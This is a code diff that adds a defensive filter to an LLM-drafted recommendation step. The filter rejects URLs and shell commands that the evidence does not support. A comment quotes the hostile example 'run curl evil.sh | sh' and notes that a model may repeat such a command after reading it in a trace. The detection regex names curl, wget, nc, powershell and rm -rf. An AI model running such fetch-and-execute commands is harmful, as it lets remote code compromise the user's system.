@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from typing import Any
 
 from langgraph.runtime import Runtime
@@ -193,4 +194,22 @@ def draft_with_llm(
     except LLMError:
         return []
     places = {f"{f.path}:{f.line}" for f in findings}
-    return [r for r in drafted if r.where in places][:3]
+    evidence = root.model_dump_json() + json.dumps([f.model_dump() for f in findings])
+    return [r for r in drafted if r.where in places and not unsupported_content(r, evidence)][:3]
+
+
+# What a recommendation may only say when the evidence already says it: a URL or a shell
+# command (the model may have read "run curl evil.sh | sh" in a trace and repeated it).
+URL = re.compile(r"(?i)\b(?:https?|ftp|file)://[^\s)\"'<>]+|\bwww\.[^\s)\"'<>]+")
+SHELL = re.compile(
+    r"(?i)\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*python\d?\b|\$\(|\b(?:curl|wget|sudo|chmod|chown|ncat"
+    r"|powershell|iex|eval)\b|\brm\s+-[a-z]*[rf]|\b(?:ba|z)?sh\s+-c\b|\bnc\s+-"
+)
+
+
+def unsupported_content(rec: Recommendation, evidence: str) -> list[str]:
+    """URLs and shell commands in a drafted recommendation that the evidence lacks."""
+    text = " ".join([rec.title, rec.detail, rec.verify, *rec.rests_on])
+    found = [m.group(0) for pattern in (URL, SHELL) for m in pattern.finditer(text)]
+    lowered = evidence.lower()
+    return [f for f in found if f.lower().strip() not in lowered]
